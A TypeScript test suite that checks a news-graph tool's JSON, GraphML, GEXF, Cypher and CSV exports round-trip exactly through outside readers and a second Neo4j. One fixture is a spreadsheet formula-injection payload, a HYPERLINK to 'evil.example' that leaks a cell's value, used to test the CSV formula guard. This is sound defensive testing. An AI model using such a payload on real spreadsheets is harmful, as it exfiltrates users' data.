/**
 * Every export format read back by a reader that is not ours, against a real Neo4j: JSON, GraphML and
 * GEXF by graphology's parsers, GraphML and GEXF also by NetworkX, the Cypher script replayed into a
 * second, empty Neo4j, and the CSV files loaded there with LOAD CSV. The graph is the seed articles
 * plus a person, a place and a document whose text holds quotes, <, &, line breaks, tabs, backticks,
 * backslashes and non-Latin scripts, and a person whose id, name and aliases start like spreadsheet
 * formulas (=, +, -, @, tab, CR), all of which must come back as they went.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import { MultiDirectedGraph } from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { parse as parseGraphml } from 'graphology-graphml';
import { isGraphExport, type ExportFormatName, type GraphExport } from '../../common/export.js';
import { Database } from '../../server/db/database.js';
import { startEmbeddedNeo4j, type EmbeddedNeo4j } from '../../server/db/embedded.js';
import { exportGraph } from '../../server/export/export.js';
import { withSource } from '../../server/export/source.js';
import { ARRAY_DELIMITER } from '../../server/export/formats/csv.js';
import { IMPORT_LABEL } from '../../server/export/formats/cypher.js';
import { specialText } from '../../server/export/values.js';
import { fingerprintLines, type FingerprintOptions } from '../helpers/fingerprint.js';
import { resetGraph, testDatabase } from '../helpers/neo4j.js';
import { readWithNetworkx } from '../helpers/networkx.js';
import { loadGraph } from '../helpers/seeded.js';
import { tempDirs } from '../helpers/temp.js';

const ODD = `Ōe "Ken" <Zaburō> & 'Sons'\nline two\r\n\ttabbed 王毅 Москва العربية \`tick\` back\\slash ; a,b 🙂 `;
const SENTENCE = `He said: "<b>&amp;</b>" — then left; 'twas\nover, 終わり. -- */ // \\n`;

/** Text a spreadsheet would run: the CSV writes it with a ' in front, and LOAD CSV must take that off. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** Fixture nodes beside the seeds, shaped as the loader writes them (docs/data-model.md). */
async function addOddities(db: Database): Promise<void> {
  await db.write((tx) =>
    tx.run(
      `CREATE (a:Newsgraph:Entity:Person {id: 'person:test-odd', name: $odd, aliases: [$odd, 'a;b', 'c,d'], titles: [], ambiguous: false})
       CREATE (b:Newsgraph:Entity:Place {id: 'place:test-moscow', name: 'Москва', aliases: ['موسكو'], ambiguous: false})
       CREATE (d:Newsgraph:Document {id: 'doc:test-odd', title: $odd, text: $sentence, file: 'odd.txt', format: 'txt', sha256: 'x', loadedAt: datetime('2026-11-23T10:00:00.123Z')})
       CREATE (a)-[:MET {evDocs: ['doc:test-odd'], evSentences: [$sentence], evStarts: [0], evEnds: [42], evHedged: [false], documents: 1, hedged: false}]->(b)
       CREATE (a)-[:MENTIONED_IN {count: 1, starts: [0], ends: [5]}]->(d)
       CREATE (f:Newsgraph:Entity:Person {id: '=person:formula', name: $formula, aliases: ['-1+1', "'=quoted", '@me', '+x'], titles: ['\t=tab', '\r=cr', '=2'], ambiguous: false})
       CREATE (f)-[:MENTIONED_IN {count: -1, starts: [-3], ends: [5]}]->(d)`,
      { odd: ODD, sentence: SENTENCE, formula: FORMULA },
    ),
  );
}

async function exportToBuffer(db: Database, format: ExportFormatName): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await exportGraph(db, { kind: 'all' }, format, out);
  out.end();
  return Buffer.concat(chunks);
}

interface Expected {
  nodes: Map<string, { labels: string[]; properties: Record<string, unknown> }>;
  /** "source|TYPE|target" → properties of each such relationship */
  edges: Map<string, Record<string, unknown>[]>;
}

/** What the source database holds, read with the driver: the truth each format is held to. */
async function expected(db: Database): Promise<Expected> {
  return db.read(async (tx) => {
    const nodes = new Map<string, { labels: string[]; properties: Record<string, unknown> }>();
    // newsgraph's nodes: what a whole-graph export holds (the marker node is bookkeeping, not graph).
    for (const r of (await tx.run('MATCH (n:Newsgraph) RETURN n.id AS id, labels(n) AS labels, properties(n) AS p')).records) {
      nodes.set(r.get('id') as string, { labels: r.get('labels') as string[], properties: r.get('p') as Record<string, unknown> });
    }
    const edges = new Map<string, Record<string, unknown>[]>();
    for (const r of (await tx.run('MATCH (a:Newsgraph)-[r]->(b:Newsgraph) RETURN a.id AS a, type(r) AS t, b.id AS b, properties(r) AS p')).records) {
      const key = `${r.get('a')}|${r.get('t')}|${r.get('b')}`;
      edges.set(key, [...(edges.get(key) ?? []), r.get('p') as Record<string, unknown>]);
    }
    return { nodes, edges };
  });
}

/** A property as the flat formats write it: lists as JSON text, datetimes as ISO text. */
function flatValue(value: unknown): unknown {
  if (Array.isArray(value)) return JSON.stringify(value);
  if (typeof value === 'object' && value !== null) return specialText(value);
  return value;
}

function flatProperties(properties: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(properties).map(([k, v]) => [k === 'kind' ? 'property.kind' : k, flatValue(v)]));
}

/** Checks a flat reading (graphology's or NetworkX's) of GraphML or GEXF against the database. */
function assertFlat(truth: Expected, nodes: [string, Record<string, unknown>][], edges: [string, string, Record<string, unknown>][], reader: string): void {
  assert.equal(nodes.length, truth.nodes.size, `${reader}: node count`);
  for (const [key, attributes] of nodes) {
    const node = truth.nodes.get(key);
    assert.ok(node, `${reader}: node ${key} is in the database`);
    for (const [name, value] of Object.entries(flatProperties(node.properties))) {
      assert.deepEqual(attributes[name], value, `${reader}: ${key}.${name}`);
    }
    assert.deepEqual(JSON.parse(attributes.labels as string), node.labels, `${reader}: ${key} labels`);
  }
  assert.equal(edges.length, [...truth.edges.values()].flat().length, `${reader}: edge count`);
  for (const [source, target, attributes] of edges) {
    const candidates = truth.edges.get(`${source}|${attributes.relType as string}|${target}`);
    assert.ok(candidates, `${reader}: edge ${source} -${attributes.relType as string}-> ${target} is in the database`);
    const flat = candidates.map(flatProperties);
    assert.ok(
      flat.some((p) => Object.entries(p).every(([name, value]) => JSON.stringify(attributes[name]) === JSON.stringify(value))),
      `${reader}: the properties of ${source} -${attributes.relType as string}-> ${target}: ${JSON.stringify(attributes)}`,
    );
  }
}

describe('export formats read back', () => {
  const db = testDatabase();
  const temps = tempDirs('newsgraph-export');
  let truth: Expected;
  let target: EmbeddedNeo4j;
  let targetDb: Database;

  before(async () => {
    await loadGraph(db);
    await addOddities(db);
    truth = await expected(db);
    target = await startEmbeddedNeo4j({ home: temps.make(), boltPort: 0, heap: '256m', pageCache: '32m' });
    targetDb = new Database({ uri: target.uri, user: target.user, password: target.password });
  });
  after(async () => {
    await targetDb?.close();
    await target?.stop();
    await db.close();
    temps.cleanup();
  });

  const sameGraph = async (options: FingerprintOptions) => {
    const [want, got] = [await fingerprintLines(db, options), await fingerprintLines(targetDb, options)];
    assert.deepEqual(got.nodes, want.nodes);
    assert.deepEqual(got.relationships, want.relationships);
  };

  it('JSON: the versioned wrapper around graphology serialized JSON, with every property as stored', async () => {
    const file = JSON.parse((await exportToBuffer(db, 'json')).toString('utf8')) as GraphExport;
    assert.ok(isGraphExport(file));
    assert.deepEqual(file.scope, { kind: 'all' });
    const graph = MultiDirectedGraph.from(file.graph);
    assert.equal(graph.order, truth.nodes.size);
    assert.equal(graph.size, [...truth.edges.values()].flat().length);
    graph.forEachNode((key, attributes) => {
      const node = truth.nodes.get(key)!;
      assert.deepEqual(attributes.labels, node.labels);
      assert.deepEqual(
        attributes.properties,
        Object.fromEntries(Object.entries(node.properties).map(([k, v]) => [k, typeof v === 'object' && !Array.isArray(v) ? specialText(v!) : v])),
      );
    });
    assert.equal(graph.getNodeAttribute('person:test-odd', 'label'), ODD);
    assert.equal(graph.getNodeAttribute('doc:test-odd', 'properties').loadedAt, '2026-11-23T10:00:00.123000000Z');
    graph.forEachEdge((_key, attributes, source, target) => {
      assert.ok(truth.edges.has(`${source}|${attributes.relType as string}|${target}`), `${source} -${attributes.relType as string}-> ${target}`);
    });
  });

  it('evidence pack: each edge spells out its sentences, and the documents they cite come along', async () => {
    const file = JSON.parse((await exportToBuffer(db, 'evidence')).toString('utf8')) as GraphExport;
    assert.ok(isGraphExport(file));
    let withEvidence = 0;
    for (const edge of file.graph.edges) {
      const p = edge.attributes.properties as { evDocs?: string[]; evSentences?: string[] };
      const items = edge.attributes.evidence as { document: string; sentence: string }[] | undefined;
      if (!p.evDocs) continue;
      withEvidence++;
      assert.deepEqual(
        items?.map((i) => [i.document, i.sentence]),
        p.evDocs.map((d, i) => [d, p.evSentences![i]]),
      );
      for (const doc of p.evDocs) assert.ok(file.documents?.[doc], `document ${doc} is in the pack`);
    }
    assert.ok(withEvidence > 10, `edges with evidence: ${withEvidence}`);
    assert.equal(file.documents?.['doc:test-odd']?.title, ODD);
    // The fixture person has two edges (MET and MENTIONED_IN) and Neo4j returns them in no set order.
    const met = file.graph.edges.find((e) => e.source === 'person:test-odd' && e.attributes.relType === 'MET')!;
    assert.deepEqual(met.attributes.evidence, [{ document: 'doc:test-odd', sentence: SENTENCE, start: 0, end: 42 }]);
  });

  /** A flat format read by graphology's parser and by NetworkX, both held to the database. */
  const readBack = (format: 'graphml' | 'gexf', parse: (xml: string) => MultiDirectedGraph, xml: string) => {
    const graph = parse(xml);
    const nodes: [string, Record<string, unknown>][] = graph.mapNodes((key, attributes) => [key, attributes]);
    const edges: [string, string, Record<string, unknown>][] = graph.mapEdges((_key, attributes, source, target) => [source, target, attributes]);
    assertFlat(truth, nodes, edges, `graphology-${format}`);
    assert.equal(graph.getNodeAttribute('person:test-odd', 'label'), ODD);

    const file = path.join(temps.make(), `all.${format}`);
    writeFileSync(file, xml);
    const nx = readWithNetworkx(format, file);
    assert.ok(nx.directed);
    assertFlat(
      truth,
      Object.entries(nx.nodes),
      nx.edges.map(([s, t, , a]) => [s, t, a]),
      `NetworkX ${format}`,
    );
    assert.equal(nx.nodes['person:test-odd']![format === 'graphml' ? 'name' : 'label'], ODD);
  };

  it('GraphML: graphology-graphml and NetworkX read every node, edge and attribute', async () => {
    readBack('graphml', (xml) => parseGraphml(MultiDirectedGraph, xml), (await exportToBuffer(db, 'graphml')).toString('utf8'));
  });

  it('GEXF 1.3: graphology-gexf and NetworkX read every node, edge and attribute', async () => {
    const xml = (await exportToBuffer(db, 'gexf')).toString('utf8');
    assert.match(xml, /<gexf version="1\.3"/);
    readBack('gexf', (text) => parseGexf(MultiDirectedGraph, text), xml);
  });

  it('Cypher: the script replayed into an empty Neo4j gives the same nodes, relationships and properties', async () => {
    const script = (await exportToBuffer(db, 'cypher')).toString('utf8');
    await resetGraph(targetDb);
    // As cypher-shell runs it: one statement a line, each its own transaction; comments skipped.
    for (const line of script.split('\n')) {
      if (line.trim() === '' || line.startsWith('//')) continue;
      assert.ok(line.endsWith(';'), `a statement ends its line: ${line.slice(0, 80)}`);
      await targetDb.write((tx) => tx.run(line));
    }
    await sameGraph({ keepVolatile: true });
    const leftovers = await targetDb.read(async (tx) => (await tx.run(`MATCH (n:${IMPORT_LABEL}) RETURN count(n) AS n`)).records[0]!.get('n') as number);
    assert.equal(leftovers, 0, 'the temporary import label is gone');
    const constraints = await targetDb.read(
      async (tx) => (await tx.run('SHOW CONSTRAINTS YIELD name RETURN collect(name) AS names')).records[0]!.get('names') as string[],
    );
    assert.deepEqual(constraints, [], 'the temporary constraint is gone');
  });

  it('CSV: a zip of neo4j-admin import files that LOAD CSV reads into the same graph', async () => {
    const dir = temps.make();
    const zip = path.join(dir, 'graph.csv.zip');
    writeFileSync(zip, await exportToBuffer(db, 'csv'));
    // Python's zipfile is the reader: not the library that wrote the archive.
    const unzip = spawnSync(
      process.env.NEWSGRAPH_PYTHON ?? 'python3',
      ['-c', 'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); z.testzip(); z.extractall(sys.argv[2]); print(",".join(sorted(z.namelist())))', zip, dir],
      { encoding: 'utf8' },
    );
    assert.equal(unzip.status, 0, unzip.stderr);
    assert.equal(unzip.stdout.trim(), 'README.txt,nodes.csv,relationships.csv');
    assert.match(readFileSync(path.join(dir, 'README.txt'), 'utf8'), /neo4j-admin database import full/);
    const nodesCsv = readFileSync(path.join(dir, 'nodes.csv'), 'utf8');
    assert.ok(nodesCsv.includes(`'=person:formula,`), 'an id that starts like a formula is written with a quote');
    assert.ok(nodesCsv.includes(`"'${FORMULA.replace(/"/g, '""')}"`), 'so is a name');

    const relationshipsCsv = readFileSync(path.join(dir, 'relationships.csv'), 'utf8');
    assert.match(relationshipsCsv.split('\n', 1)[0]!, /^:START_ID,:END_ID,:TYPE,corroborationDocuments:IGNORE,corroborationOutlets:IGNORE,/);
    assert.match(relationshipsCsv.split('\n')[1]!, /^[^,]+,[^,]+,[^,]+,[1-9]\d*,\d+,/, 'each relationship says how many documents back it');

    await resetGraph(targetDb);
    await loadCsv(targetDb, dir);
    await sameGraph({ keepVolatile: true, emptyListsAsAbsent: true });
  });
});

/** neo4j-admin's header notation, read as neo4j-admin would: `name:type`, `name:type[]`, `:ID`, `:LABEL`… */
function columns(headerLine: string): { field: string; name: string; type: string; list: boolean }[] {
  return headerLine.split(',').map((field) => {
    const [name = '', type = 'string'] = field.split(':');
    return { field, name, type: type.replace('[]', ''), list: type.endsWith('[]') };
  });
}

function conversion(type: string, value: string): string {
  const functions: Record<string, string> = {
    string: '',
    long: 'toInteger',
    double: 'toFloat',
    boolean: 'toBoolean',
    datetime: 'datetime',
    date: 'date',
    localdatetime: 'localdatetime',
    time: 'time',
    localtime: 'localtime',
    duration: 'duration',
  };
  const fn = functions[type];
  assert.ok(fn !== undefined, `a type neo4j-admin knows: ${type}`);
  return fn ? `${fn}(${value})` : value;
}

/** LOAD CSV, with labels and types from the files (dynamic labels and types, Neo4j 5.26). */
async function loadCsv(db: Database, dir: string): Promise<void> {
  // Each field with the formula guard's ' taken off by the expression the export's README.txt gives.
  const recipe = /CASE WHEN field .* END/.exec(readFileSync(path.join(dir, 'README.txt'), 'utf8'))?.[0];
  assert.ok(recipe, 'README.txt says how to take off the formula guard');
  const field = (name: string) => recipe.replaceAll('field', `row[${JSON.stringify(name)}]`);
  const setters = (file: string, variable: string) =>
    columns(readFileSync(path.join(dir, file), 'utf8').split('\n', 1)[0]!)
      // neo4j-admin skips a column typed IGNORE, and an empty name is an :ID, :LABEL or :TYPE column.
      .filter((c) => c.name !== '' && c.type !== 'IGNORE')
      .map((c) => {
        const cell = field(c.field);
        const value = c.list ? `[x IN split(${cell}, ${JSON.stringify(ARRAY_DELIMITER)}) | ${conversion(c.type, 'x')}]` : conversion(c.type, cell);
        return `${variable}.\`${c.name}\` = CASE WHEN ${cell} IS NULL THEN null ELSE ${value} END`;
      })
      .join(', ');
  const url = (file: string) => `file://${path.join(dir, file)}`;
  await db.write((tx) => tx.run('CREATE CONSTRAINT csv_key IF NOT EXISTS FOR (n:CsvImport) REQUIRE n.key IS UNIQUE'));
  await db.write((tx) =>
    tx.run(
      `LOAD CSV WITH HEADERS FROM $url AS row CREATE (n:CsvImport:$(split(${field(':LABEL')}, ';')) {key: ${field(':ID')}}) SET ${setters('nodes.csv', 'n')}`,
      { url: url('nodes.csv') },
    ),
  );
  await db.write((tx) =>
    tx.run(
      `LOAD CSV WITH HEADERS FROM $url AS row
       MATCH (a:CsvImport {key: ${field(':START_ID')}}), (b:CsvImport {key: ${field(':END_ID')}})
       CREATE (a)-[r:$(${field(':TYPE')})]->(b) SET ${setters('relationships.csv', 'r')}`,
      { url: url('relationships.csv') },
    ),
  );
  await db.write((tx) => tx.run('MATCH (n:CsvImport) REMOVE n:CsvImport, n.key'));
  await db.write((tx) => tx.run('DROP CONSTRAINT csv_key'));
}

describe("whole-graph export of nodes unlike the loader's", () => {
  const db = testDatabase();

  before(async () => {
    await resetGraph(db);
    await db.write((tx) =>
      tx.run(
        `CREATE (n:Newsgraph:Tag {id: 42, name: 'numeric id'})
         CREATE (m:Newsgraph:Tag {name: 'no id'})
         CREATE (p:Newsgraph:Thing {id: 'thing:a', \`__proto__\`: 'kept', \`we\`\`ird key\`: [1, 2]})
         CREATE (p)-[:\`odd \`\`type\`\` here\` {note: 'carried', \`__proto__\`: 'also'}]->(n)
         CREATE (n)-[:PLAIN]->(m)`,
      ),
    );
  });
  after(() => db.close());

  it('keys a node without a string id by its element id, links it by that key, and keeps properties of any name', async () => {
    const ids = await db.read(async (tx) =>
      (await tx.run('MATCH (n:Tag) RETURN n.name AS name, elementId(n) AS id')).records.map((r) => [r.get('name') as string, r.get('id') as string]),
    );
    const elementIds = Object.fromEntries(ids) as Record<string, string>;
    // Read as JSON.parse gives it: a graph import would assign __proto__ instead of keeping it as data.
    const file = JSON.parse((await exportToBuffer(db, 'json')).toString('utf8')) as GraphExport;
    const nodes = new Map(file.graph.nodes.map((n) => [n.key, n.attributes.properties as Record<string, unknown>]));
    assert.deepEqual([...nodes.keys()].sort(), [elementIds['numeric id'], elementIds['no id'], 'thing:a'].sort());
    assert.equal(nodes.get(elementIds['numeric id']!)!.id, 42);
    const thing = nodes.get('thing:a')!;
    assert.equal(Object.getOwnPropertyDescriptor(thing, '__proto__')?.value, 'kept');
    assert.deepEqual(thing['we`ird key'], [1, 2]);

    const edges = file.graph.edges.map((e) => ({
      source: e.source,
      target: e.target,
      type: e.attributes.relType as string,
      properties: e.attributes.properties as Record<string, unknown>,
    }));
    const odd = edges.find((e) => e.type === 'odd `type` here');
    assert.ok(odd, JSON.stringify(edges));
    assert.equal(odd.source, 'thing:a');
    assert.equal(odd.target, elementIds['numeric id']);
    assert.equal(odd.properties.note, 'carried');
    assert.equal(Object.getOwnPropertyDescriptor(odd.properties, '__proto__')?.value, 'also');
    assert.deepEqual(
      edges.filter((e) => e.type === 'PLAIN').map((e) => [e.source, e.target]),
      [[elementIds['numeric id'], elementIds['no id']]],
    );
  });

  it('leaves out a relationship committed between its node and relationship passes to a node it does not hold', async () => {
    const read = await withSource(
      db,
      { kind: 'all' },
      async (source) => {
        const nodes = new Set<string>();
        for await (const batch of source.nodes()) for (const node of batch) nodes.add(node.key);
        // A load committing beside the export, after its node pass.
        await db.write((tx) => tx.run(`MATCH (p:Thing {id: 'thing:a'}) CREATE (p)-[:LATE {note: 'after the nodes'}]->(:Newsgraph:Thing {id: 'thing:late'})`));
        const edges = [];
        for await (const batch of source.edges()) edges.push(...batch);
        return { nodes, edges };
      },
      { started: () => false },
    );
    try {
      assert.ok(!read.nodes.has('thing:late'));
      assert.deepEqual(read.edges.map((e) => e.attributes.relType).sort(), ['PLAIN', 'odd `type` here']);
      const late = await db.read(async (tx) => (await tx.run('MATCH ()-[r:LATE]->() RETURN count(r) AS n')).records[0]?.get('n'));
      assert.equal(late, 1, 'the relationship was committed, for the pass to see');
    } finally {
      await db.write((tx) => tx.run("MATCH (n:Thing {id: 'thing:late'}) DETACH DELETE n"));
    }
  });
});
